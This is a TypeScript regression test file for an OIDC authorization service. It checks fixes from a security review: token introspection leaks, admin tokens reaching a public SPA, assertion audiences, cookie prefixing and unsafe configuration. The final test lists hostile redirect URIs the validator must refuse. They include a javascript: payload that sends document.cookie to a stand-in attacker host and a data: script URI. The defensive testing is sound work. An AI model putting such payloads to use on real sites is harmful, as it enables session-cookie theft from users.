/**
 * Regression tests for the findings of an attacker's review (issue 12: 3, 6, 7, 8, 9, 10), each
 * tried the way the attacker did. The detailed rules are tested beside the code (SECURITY.md).
 */
import { writeFileSync } from 'node:fs'
import t from 'tap'
import { ConfigError, loadConfig } from '../../services/auth/src/index.js'
import { ASSERTION_TYPE, basic, browserLogin, claimsOf, clientAssertion, exchangeCode, postForm, startOidcApp } from './auth-fixture.js'

const THIRD_PARTY = { client_id: 'partner', client_secret: 'partner-secret', grant_types: ['client_credentials'], scope: '', audience: 'api://resource' }
const OTHER_API = { client_id: 'other-api', client_secret: 'other-secret', grant_types: ['client_credentials'], scope: '', audience: 'api://other', introspection: true }

t.test('finding 3: a confidential client cannot learn who holds a token at /introspect', async (t) => {
  const h = await startOidcApp({ clients: [THIRD_PARTY, OTHER_API] })
  t.teardown(h.close)
  const admin = (await postForm(h, '/token', { grant_type: 'password', username: 'alice', password: 'alice-password' })).json().access_token as string
  const probe = await postForm(h, '/introspect', { token: admin }, basic('partner', 'partner-secret'))
  t.equal(probe.statusCode, 403, 'a client without introspection metadata is refused')
  t.notMatch(probe.body, /alice|admin|"sub"|"scope"|"sid"/)
  const otherAudience = await postForm(h, '/introspect', { token: admin }, basic('other-api', 'other-secret'))
  t.same(otherAudience.json(), { active: false }, 'an introspecting service of another audience learns nothing')
})

t.test('finding 7: an admin who signs in to the public SPA gives it no admin token', async (t) => {
  const h = await startOidcApp()
  t.teardown(h.close)
  const spa = 'http://127.0.0.1:3000/spa/callback'
  const { code } = await browserLogin(h, { client_id: 'spa', redirect_uri: spa, scope: 'openid documents:read' })
  const res = await exchangeCode(h, code, { client_id: 'spa', redirect_uri: spa }, null)
  t.equal(res.statusCode, 200, res.body)
  t.notOk('roles' in claimsOf(res.json().access_token), 'no roles claim: the resource service\'s /admin check fails')
})

t.test('finding 6: an assertion addressed to the token endpoint URL is refused', async (t) => {
  const h = await startOidcApp()
  t.teardown(h.close)
  const grant = async (assertion: string) => await postForm(h, '/token', { grant_type: 'client_credentials', client_assertion_type: ASSERTION_TYPE, client_assertion: assertion }, null)
  t.equal((await grant(await clientAssertion(h, { aud: `${h.issuer}/token` }))).statusCode, 401)
  t.equal((await grant(await clientAssertion(h, { aud: ['https://attacker.example', h.issuer] }))).statusCode, 401, 'nor one naming another server too')
  t.equal((await grant(await clientAssertion(h))).statusCode, 200, 'the issuer alone is accepted')
})

t.test('finding 8: under https the session cookie is __Host- prefixed; an unprefixed one planted by a sibling domain is ignored', async (t) => {
  const h = await startOidcApp({ env: { ISSUER: 'https://id.example.com' } })
  t.teardown(h.close)
  const { session } = await browserLogin(h)
  t.ok(session['__Host-gh_session'], 'the session cookie is __Host-gh_session')
  t.notOk('gh_session' in session)
  const planted = await h.app.inject({ method: 'GET', url: '/authorize?client_id=web&response_type=code&redirect_uri=http%3A%2F%2F127.0.0.1%3A3000%2Fcallback&scope=openid&code_challenge=E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM&code_challenge_method=S256', cookies: { gh_session: session['__Host-gh_session']! } })
  t.equal(planted.statusCode, 200, 'the login form, not a session')
})

t.test('findings 9 and 10: production refuses the published secret; no client registers javascript:, data: or remote http redirects', async (t) => {
  const dir = t.testdir({})
  const file = `${dir}/auth.json`
  const attempt = async (env: Record<string, string>): Promise<string[]> => {
    try {
      await loadConfig(env)
      return []
    } catch (err) {
      if (err instanceof ConfigError) return [...err.problems]
      throw err
    }
  }
  writeFileSync(file, JSON.stringify({ clients: [{ client_id: 'ok', client_secret: 's', grant_types: ['client_credentials'] }] }))
  const prod = { NODE_ENV: 'production', AUTH_CONFIG_FILE: file, REDIS_URL: 'redis://127.0.0.1:1', SIGNING_KEYS_FILE: '/nonexistent', REFRESH_TOKEN_SECRET: 'r'.repeat(40) }
  t.match(await attempt({ ...prod, COOKIE_SECRET: 'dev-only-compose-cookie-secret-not-for-production' }), [/^COOKIE_SECRET is a published development value/])
  for (const uri of ['javascript:fetch("//evil.example/?"+document.cookie)', 'data:text/html,<script>alert(1)</script>', 'http://evil.example/cb']) {
    writeFileSync(file, JSON.stringify({ clients: [{ client_id: 'evil', client_secret: 's', grant_types: ['authorization_code'], redirect_uris: [uri] }] }))
    const p = await attempt({ AUTH_CONFIG_FILE: file })
    t.ok(p.some((x) => x.includes('of client "evil"') && x.includes(JSON.stringify(uri))), `refused: ${uri}`)
  }
})
